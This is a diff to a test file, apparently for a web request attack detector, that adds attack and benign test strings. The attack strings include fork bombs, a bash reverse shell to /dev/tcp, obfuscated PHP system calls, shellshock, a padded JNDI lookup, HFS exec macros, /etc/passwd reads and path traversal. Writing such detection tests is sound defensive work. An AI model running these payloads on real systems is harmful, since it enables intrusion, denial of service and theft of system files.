@@ -147,6 +147,37 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
   ],
   ['dynamic SQL from a variable', 'sqli', 'q', '0x77616974666F72 exec(@s)'],
   ['reading a system catalogue', 'sqli', 'q', '1 union select name from sqlite_master--'],
+  // Shell: a function that pipes into itself (a fork bomb), in the spellings bash accepts.
+  ['a fork bomb with calls written as C', 'rce', 'form', 'f(){ f() | f(); }; f'],
+  ['a fork bomb named with a dot', 'rce', 'q', '.(){ .|.& };.'],
+  ['a fork bomb run without a separator', 'rce', 'q', 'test() { test | test & } test'],
+  // Shell: bash's network redirections, what reverse shells are made of.
+  ['a socket opened on /dev/tcp', 'rce', 'q', 'exec 5<>/dev/tcp/10.0.0.1/80'],
+  ['an interactive shell sent to /dev/tcp', 'rce', 'ua', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
+  // PHP: a function name put together before it is called.
+  ['a name from concatenated bare words', 'rce', 'q', "(sy.(st).em)('uname');"],
+  ['a name from strings after a cast', 'rce', 'q', '( string ) "sys"."t"."em" (\'uname\');'],
+  ['a variable holding a built name, called', 'rce', 'q', "$y = 'sys'.'tem';($y)('uname');"],
+  ['a constant holding a built name, called', 'rce', 'form', "define('x', 'sys' . 'tem');(x)/* c */('uname');"],
+  // Shell: dd given system files as its operands; a compiler told to run each pass under a shell.
+  ['dd reading a system file', 'rce', 'ua', 'dd if=/etc/passwd of=/tmp/x.sh bs=1 skip=22 count=9'],
+  ['a compiler wrapper running a shell', 'rce', 'form', 'c89 -wrapper sh,-c,id .'],
+  // Character references with any number of leading zeros, as browsers and HTML decoders read them.
+  ['a lookup behind zero-padded references', 'rce', 'ua', '&#x24;&#' + '0'.repeat(40) + '123;jndi:ldap://x.example/w}'],
+  // An application's configuration script asked of a parameter (local file inclusion).
+  ['a configuration script as a value', 'ptrav', 'q', 'config.php'],
+  ['a database script under a folder', 'ptrav', 'form', '/includes/database.inc'],
+  // Windows programs by their `.exe` name, drives written with a forward slash.
+  ['a timing probe by its .exe name', 'rce', 'q', 'ping.exe -n 31 127.0.0.1'],
+  ['a listing of a drive with a forward slash', 'rce', 'q', 'dir c:/'],
+  // HFS macros run from any text the server renders (CVE-2014-6287).
+  ['an HFS exec macro', 'rce', 'q', '%00{.exec|cmd.exe /c ver.}'],
+  ['an HFS cookie macro', 'rce', 'q', '{.cookie|a|value=b.}'],
+  // Whole-request points: the Referer's query is read like this request's.
+  ['shell obfuscation in the Referer query', 'rce', 'ref', "wh''oami"],
+  ['shellshock in the Referer query', 'rce', 'ref', '() { :;}; /bin/bash -c id'],
+  ['overlong UTF-8 dots in the Referer query', 'ptrav', 'ref', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
+  ['a loopback address in the Referer query', 'ssrf', 'ref', 'http://0x7f.1/'],
 ];
 
 const BENIGN: Array<[string, Where, string]> = [
@@ -179,6 +210,18 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a bearer token', 'auth', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc'],
   ['a sentence with case, when and then', 'q', 'In case 5 when you are done then call me'],
   ['prose naming a catalogue', 'q', 'we store settings in sqlite_master table'],
+  ['a device path in prose', 'q', 'see /dev/tcp/ for sockets'],
+  ['a C function in prose', 'form', 'My function f() { g(); } works'],
+  ['words in parentheses before a quote', 'q', "Price (USD) ('approx')"],
+  ['a dotted name in parentheses', 'form', "(see e.g. (the) docs)('x')"],
+  ['an ordinary Referer query', 'ref', 'shoes size 42'],
+  ['a search page address in the Referer query', 'ref', 'https://www.google.com/search?q=shoes'],
+  ['a client-side configuration file', 'q', 'config.js'],
+  ['a dotted word in braces', 'q', '{.net | core}'],
+  ['a dd word in prose', 'q', 'dd if you must'],
+  ['a directory word then a drive in prose', 'q', 'the dir c: drive holds it'],
+  ['a Windows program named in prose', 'q', 'notepad.exe is an editor'],
+  ['a number with zeros as a reference', 'q', 'Ben &#0000038; Jerry'],
 ];
 
 for (const [name, cls, where, v] of ATTACKS) {
